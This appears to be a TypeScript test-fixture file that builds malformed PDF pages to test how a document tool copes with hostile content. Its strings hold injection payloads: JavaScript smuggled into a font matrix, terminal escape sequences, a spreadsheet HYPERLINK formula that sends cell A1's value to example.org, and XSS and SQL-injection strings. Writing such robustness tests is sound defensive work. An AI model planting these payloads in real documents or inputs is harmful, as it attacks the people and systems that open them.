import { DECISION, lines, onePage, packed, stream } from './rawPdf.ts'

/** Decisions whose words or fonts would do harm to whoever prints, opens or draws them. */

/** A font's matrix of zeros, of numbers beyond all bounds, of text that is a program. */
export const fontMatrices = (): readonly Buffer[] =>
  ['0 0 0 0 0 0', '1e300 0 0 1e300 1e308 1e308', '0.001 0 0 (1\\); throw new Error\\(1\\); //) 0 0', 'null null'].map(
    (matrix) =>
      onePage({
        contents: stream(
          `${lines(DECISION)} BT /T 20 Tf 60 300 Td (aaa) Tj ET BT 1e38 0 0 1e38 0 0 Tm /F 1e30 Tf (bbb) Tj ET`,
        ),
        resources: '/Font << /F 5 0 R /T 6 0 R >>',
        more: [
          `<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1e300 1e300] /FontMatrix [${matrix}] /CharProcs << /a 7 0 R >> /Encoding << /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [1e300] /Resources << >> >>`,
          stream('9 0 d0 0 0 9 9 re f'),
        ],
      }),
  )

/** A font with a character map, so that a page can print what no font has: control characters of every kind. */
function withMap(texts: readonly string[]): Buffer {
  const characters = [...new Set(texts.join(''))]
  const code = (character: string): string => (characters.indexOf(character) + 1).toString(16).padStart(4, '0')
  const hex = (character: string): string =>
    [...character].map((c) => (c.codePointAt(0) ?? 0).toString(16).padStart(4, '0')).join('')
  const map = `/CIDInit /ProcSet findresource begin 12 dict begin begincmap /CMapName /M def /CMapType 2 def
1 begincodespacerange <0000> <ffff> endcodespacerange
${characters.length} beginbfchar
${characters.map((c) => `<${code(c)}> <${hex(c)}>`).join('\n')}
endbfchar endcmap end end`
  const shown = texts.map(
    (text, i) => `BT /W 10 Tf 1 0 0 1 60 ${780 - 18 * i} Tm <${[...text].map(code).join('')}> Tj ET`,
  )
  return onePage({
    contents: stream(shown.join('\n')),
    resources: '/Font << /F 5 0 R /W 6 0 R >>',
    more: [
      '<< /Type /Font /Subtype /Type0 /BaseFont /Wide /Encoding /Identity-H /ToUnicode 8 0 R /DescendantFonts [7 0 R] >>',
      '<< /Type /Font /Subtype /CIDFontType2 /BaseFont /Wide /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> /DW 500 >>',
      packed(map),
    ],
  })
}

/** The decision with a title that a terminal would obey. */
export const terminalEscapes = (): Buffer =>
  withMap(
    DECISION.map((line) =>
      line.replace('Lamps', '\u001b]0;owned\u0007\u001b[2J\u001b[31m\u009b5m\u202eLamps\u0008\u0000\u2066'),
    ),
  )

/** The decision with a title that a spreadsheet would compute. */
export const formulas = (): Buffer =>
  withMap(DECISION.map((line) => line.replace('Lamps', '=HYPERLINK("https://example.org/?"&A1,"Lamps")')))

/** The decision with a title that a browser would run, and that SQL would, were it put together carelessly. */
export const markup = (): Buffer =>
  withMap(
    DECISION.map((line) =>
      line.replace('Lamps', `<script>alert(1)</script><img src=x onerror=alert(1)>'); DROP TABLE documents; --`),
    ),
  )
